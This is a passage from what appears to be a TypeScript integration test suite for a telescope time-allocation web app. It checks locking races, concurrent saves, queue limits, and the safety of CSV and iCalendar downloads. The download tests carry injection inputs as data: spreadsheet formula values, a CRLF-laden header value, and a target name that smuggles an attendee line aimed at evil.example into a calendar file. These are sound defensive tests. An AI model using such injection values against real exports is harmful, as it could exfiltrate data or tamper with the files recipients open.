    expect(await TelescopeClearFraction.count({ where: { telescopeId: telescope.id } })).toBeGreaterThanOrEqual(1);
    await TelescopeClearFraction.destroy({ where: { telescopeId: telescope.id } });
    await telescope.destroy();
  });
});

describe("lock, replay and concurrency", () => {
  it("two locks at once on a fresh call: one locks, the other is a 409; never a 5xx", async () => {
    const { call, proposals } = await callWithProposals(1, "Race");
    const app = await request();
    const lock = () => app.post(`/api/v1/calls/${call.id}/allocation/lock`).set(json(chair.cookie)).send("{}");
    const answers = await Promise.all([lock(), lock(), lock()]);
    expect(answers.map((r) => r.status).sort()).toEqual([200, 409, 409]);
    expect(answers.filter((r) => r.status === 409).every((r) => r.body.issues[0].path === "allocation")).toBe(true);
    expect((await Proposal.findByPk(proposals[0].id))!.status).toBe("declined");
    const unlock = () => app.post(`/api/v1/calls/${call.id}/allocation/unlock`).set(json(chair.cookie)).send({ reason: "replayed unlock" });
    expect((await Promise.all([unlock(), unlock()])).map((r) => r.status).sort()).toEqual([200, 409]);
  });

  it("two moves at once on a fresh call never answer a 5xx", async () => {
    const { call, proposals } = await callWithProposals(2, "Move race");
    const app = await request();
    const move = (p: Proposal, rank: number) => app.post(`/api/v1/calls/${call.id}/board/rank`).set(json(chair.cookie)).send({ proposalId: p.id, chairRank: rank, reason: "race" });
    const answers = await Promise.all([move(proposals[0], 2), move(proposals[0], 1), move(proposals[1], 1)]);
    expect(answers.map((r) => r.status)).toEqual([200, 200, 200]);
    expect(await BoardEntry.count({ where: { callId: call.id } })).toBe(2);
  });

  it("a save racing a lock is either in the lock's outcome or refused with 409; the locked allocation refuses every change", async () => {
    const { call, proposals } = await callWithProposals(2, "Save race");
    const app = await request();
    const save = app.put(`/api/v1/calls/${call.id}/allocation`).set(json(chair.cookie)).send({ rows: [row(proposals[0], call, 4)], tiers: [{ proposalId: proposals[0].id, tier: "assured" }] });
    const lock = app.post(`/api/v1/calls/${call.id}/allocation/lock`).set(json(chair.cookie)).send("{}");
    const [saved, locked] = await Promise.all([save, lock]);
    expect(locked.status).toBe(200);
    expect([200, 409]).toContain(saved.status);
    const status = (await Proposal.findByPk(proposals[0].id))!.status;
    expect(status).toBe(saved.status === 200 && locked.body.outcomes.accepted === 1 ? "accepted" : "declined");
    // whichever came first, the outcome matches the stored hours
    const hours = await Allocation.sum("hours", { where: { proposalId: proposals[0].id } });
    expect(status === "accepted").toBe((hours ?? 0) > 0);

    const changes = [
      app.put(`/api/v1/calls/${call.id}/allocation`).set(json(chair.cookie)).send({ rows: [row(proposals[1], call, 4)] }),
      app.post(`/api/v1/calls/${call.id}/board/rank`).set(json(chair.cookie)).send({ proposalId: proposals[1].id, chairRank: 1, reason: "after the lock" }),
      app.post(`/api/v1/calls/${call.id}/allocation/fill-by-rank`).set(json(chair.cookie)).send("{}"),
      app.post(`/api/v1/calls/${call.id}/allocation/lock`).set(json(chair.cookie)).send("{}"),
    ];
    for (const res of await Promise.all(changes)) {
      expect.soft(res.status, res.text.slice(0, 200)).toBe(409);
      expect.soft(res.body.issues?.[0]?.path).toBe("allocation");
    }
    const page = await app.post(`/committee/${call.id}/allocation`).set(json(chair.cookie)).send({ intent: "save", rows: [{ proposalId: proposals[1].id, tier: "queue", waitlisted: false, cells: [{ ...cell, semesterCode: call.semesterCode, hours: 3 }] }] });
    expect(page.status).toBe(409);
    const board = await app.post(`/committee/${call.id}/board`).set("Cookie", chair.cookie).type("form").send(form({ intent: "move", proposalId: proposals[1].id, chairRank: "1", reason: "after the lock" }));
    expect(board.status).toBe(409);
    expect(board.text).toContain("after the lock"); // what was typed comes back
    expect(await Allocation.count({ where: { proposalId: proposals[1].id } })).toBe(0);
  });
});

describe("two chairs on the allocation page", () => {
  it("the later save of a sheet read before another save is refused with 409, and the other's hours stay", async () => {
    const { call, proposals } = await callWithProposals(1, "Two chairs");
    const second = await newUser({ roles: ["chair"], name: "Second Chair" });
    const app = await request();
    const opened = await allocationVersion(call.id); // both pages were read at this version
    const page = (hours: number, basedOn: number) => ({ intent: "save", basedOn, rows: [{ proposalId: proposals[0].id, tier: "queue", waitlisted: false, cells: [{ ...cell, semesterCode: call.semesterCode, hours }] }] });
    const first = await app.post(`/committee/${call.id}/allocation`).set(json(second.cookie)).send(page(9, opened));
    expect(first.status).toBe(200);
    const late = await app.post(`/committee/${call.id}/allocation`).set(json(chair.cookie)).send(page(3, opened));
    expect(late.status).toBe(409);
    expect(late.text).toContain("Someone saved this allocation after you opened the page");
    expect(await Allocation.sum("hours", { where: { proposalId: proposals[0].id } })).toBe(9);
    // read again, the save goes through
    const fresh = await app.post(`/committee/${call.id}/allocation`).set(json(chair.cookie)).send(page(3, await allocationVersion(call.id)));
    expect(fresh.status).toBe(200);
    expect(await Allocation.sum("hours", { where: { proposalId: proposals[0].id } })).toBe(3);
  });
});

describe("the semester check's queue", () => {
  it("is bounded: a burst of checks for one call queues one and refuses the rest with a JSON 4xx", { timeout: 120_000 }, async () => {
    const { call } = await callWithProposals(1, "Queue");
    const app = await request();
    const start = () => app.post(`/api/v1/calls/${call.id}/semester-check`).set(json(chair.cookie)).send({ realisations: 1000 });
    const answers = await Promise.all(Array.from({ length: 30 }, start));
    const accepted = answers.filter((r) => r.status === 202);
    expect(accepted.length).toBe(1);
    for (const r of answers.filter((x) => x.status !== 202)) {
      expect.soft(r.status).toBe(409);
      expect.soft(r.body.issues?.[0]?.path).toBe("callId");
      expect.soft(r.body.id).toBe(accepted[0].body.id);
    }
    expect(await SemesterCheck.count({ where: { callId: call.id } })).toBe(1);
    // once it has finished, the next one may start
    for (let i = 0; i < 240; i++) {
      const res = await app.get(`/api/v1/semester-checks/${accepted[0].body.id}`).set("Cookie", chair.cookie);
      if (res.body.status === "done" || res.body.status === "failed") break;
      await new Promise((r) => setTimeout(r, 250));
    }
    const again = await app.post(`/api/v1/calls/${call.id}/semester-check`).set(json(chair.cookie)).send({ realisations: 1 });
    expect(again.status).toBe(202);
  });

  it("is bounded across calls too: more calls than the queue holds get a 503 with Retry-After", { timeout: 120_000 }, async () => {
    const calls: TestCall[] = [];
    for (let i = 0; i < 12; i++) calls.push(await testCall()); // one by one: testCall picks a free code
    const app = await request();
    const answers = await Promise.all(calls.map((c) => app.post(`/api/v1/calls/${c.id}/semester-check`).set(json(chair.cookie)).send({ realisations: 1 })));
    const statuses = answers.map((r) => r.status);
    expect(statuses.filter((s) => s === 202).length).toBeLessThan(12);
    for (const r of answers.filter((x) => x.status !== 202)) {
      expect.soft(r.status).toBe(503);
      expect.soft(r.headers["retry-after"]).toMatch(/^\d+$/);
      expect.soft(typeof r.body.error).toBe("string");
    }
  });
});

describe("downloads", () => {
  function parseCsv(text: string): string[][] {
    // RFC 4180: quoted fields may hold commas, quotes ("") and line breaks
    const rows: string[][] = [];
    let rowNow: string[] = [], field = "", quoted = false;
    for (let i = 0; i < text.length; i++) {
      const ch = text[i];
      if (quoted) {
        if (ch === '"' && text[i + 1] === '"') { field += '"'; i++; }
        else if (ch === '"') quoted = false;
        else field += ch;
      } else if (ch === '"') quoted = true;
      else if (ch === ",") { rowNow.push(field); field = ""; }
      else if (ch === "\n") { rowNow.push(field); rows.push(rowNow); rowNow = []; field = ""; }
      else if (ch !== "\r") field += ch;
    }
    if (field || rowNow.length) { rowNow.push(field); rows.push(rowNow); }
    return rows;
  }
  const formulaStart = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
  const number = /^-?\d+(\.\d+)?$/;

  it("no text cell of the ranked list or the allocation CSV starts like a formula; the text is kept after a '", async () => {
    const app = await request();
    const moved = await app.post(`/api/v1/calls/${callA.id}/board/rank`).set(json(chair.cookie)).send({ proposalId: a[0].id, chairRank: 1, reason: FORMULA_REASON });
    expect(moved.status).toBe(200);
    const saved = await app.put(`/api/v1/calls/${callA.id}/allocation`).set(json(chair.cookie)).send({ rows: [row(a[0], callA, 6)], tiers: [{ proposalId: a[0].id, tier: "assured" }] });
    expect(saved.status).toBe(200);
    const telescope = (await Telescope.findByPk(cell.telescopeId))!;
    const ranked = parseCsv((await app.get(`/committee/${callA.id}/ranked-list.csv`).set("Cookie", chair.cookie)).text);
    const allocation = parseCsv((await app.get(`/committee/${callA.id}/allocation.csv`).set("Cookie", chair.cookie)).text);
    for (const [name, rows] of [["ranked list", ranked], ["allocation", allocation]] as const) {
      for (const r of rows.slice(1)) for (const c of r) if (!number.test(c)) expect.soft(c, `${name}: ${c}`).not.toMatch(formulaStart);
    }
    const header = ranked[0];
    const mine = ranked.find((r) => r[header.indexOf("title")].includes("HYPERLINK"))!;
    expect(mine[header.indexOf("title")]).toBe(`'${FORMULA_TITLE}`);
    expect(mine[header.indexOf("pi_institution")]).toBe(`'${FORMULA_INSTITUTION}`);
    expect(mine[header.indexOf("chair_rank_reason")]).toBe(`'${FORMULA_REASON}`);
    expect(allocation[1][allocation[0].indexOf("title")]).toBe(`'${FORMULA_TITLE}`);
    expect(allocation[1][allocation[0].indexOf("telescope")]).toBe(telescope.name);
    // a negative number stays a number
    const z = ranked.map((r) => r[header.indexOf("normalised_z")]).slice(1);
    expect(z.some((v) => v.startsWith("-"))).toBe(true);
    for (const v of z) expect(v).toMatch(number);
    await app.put(`/api/v1/calls/${callA.id}/allocation`).set(json(chair.cookie)).send({ rows: [], tiers: [{ proposalId: a[0].id, tier: null }] });
    await app.post(`/api/v1/calls/${callA.id}/board/rank`).set(json(chair.cookie)).send({ proposalId: a[0].id, chairRank: null, reason: "back" });
  });

  it("file names in Content-Disposition cannot carry quotes, separators or line breaks from a semester code", async () => {
    const call = await testCall();
    await Call.update({ semesterCode: `x";\r\n=y` }, { where: { id: call.id } });
    const app = await request();
    for (const path of [`/committee/${call.id}/ranked-list.csv`, `/committee/${call.id}/allocation.csv`]) {
      const res = await app.get(path).set("Cookie", chair.cookie);
      expect(res.status).toBe(200);
      expect(res.headers["content-disposition"]).toMatch(/^attachment; filename="[\w.-]+"$/);
      expect(res.headers["cache-control"]).toContain("no-store");
    }
  });

  it("an epoch's iCalendar file cannot be given extra properties through a target's name", async () => {
    const { call, proposals } = await callWithProposals(1, "Calendar");
    const p = proposals[0];
    const target = (await Target.findOne({ where: { proposalId: p.id } }))!;
    const owner = (await User.findByPk(pi.user.id))!;
    const [option] = await instrumentOptions({ callId: call.id });
    const filter = option.filters.find((f) => f.band === "V") ?? option.filters[0];
    await Proposal.update({ status: "draft" }, { where: { id: p.id } });
    await createObservation({
      user: owner as never,
      proposalId: p.id,
      input: observationSchema.parse({
        targetId: target.id, instrumentId: option.instrumentId, filterId: filter.id, mode: "snr", snrGoal: "80", framesPerEpoch: "4",
        epochsPerSemester: "3", moonCategory: "dark", maxAirmass: "1.8", seeingArcsec: "1.0", baselineYears: "2", requiredPmPrecisionMasPerYr: "0.5",
      }),
    });
    await Target.update({ name: "Field 9\r\nATTENDEE:mailto:evil@evil.example\nBEGIN:VALARM" }, { where: { id: target.id } });
    await Proposal.update({ status: "in_review" }, { where: { id: p.id } });
    const app = await request();
    const sheet = await computeFeasibilitySheet({ proposalId: p.id });
    const t = sheet.totals.find((x) => x.semesterCode === call.semesterCode && x.hours > 0)!;
    expect((await app.put(`/api/v1/calls/${call.id}/allocation`).set(json(chair.cookie)).send({ rows: [{ proposalId: p.id, telescopeId: t.telescopeId, moonCategory: t.moonCategory, semesterCode: call.semesterCode, hours: 10 }], tiers: [{ proposalId: p.id, tier: "assured" }] })).status).toBe(200);
    expect((await app.post(`/api/v1/calls/${call.id}/allocation/lock`).set(json(chair.cookie)).send("{}")).status).toBe(200);
    const ics = await app.get(`/committee/${call.id}/proposals/${p.id}/epochs.ics`).set("Cookie", chair.cookie);
    expect(ics.status).toBe(200);
    expect(ics.headers["content-disposition"]).toMatch(/^attachment; filename="[\w.-]+"$/);
    expect(ics.text).not.toMatch(/^ATTENDEE/m);
    expect(ics.text).not.toMatch(/^BEGIN:VALARM/m);
    const events = new ICAL.Component(ICAL.parse(ics.text)).getAllSubcomponents("vevent");
    expect(events.length).toBeGreaterThan(0);
    expect(events.every((e) => e.getAllProperties("attendee").length === 0 && e.getAllSubcomponents("valarm").length === 0)).toBe(true);
  });
});
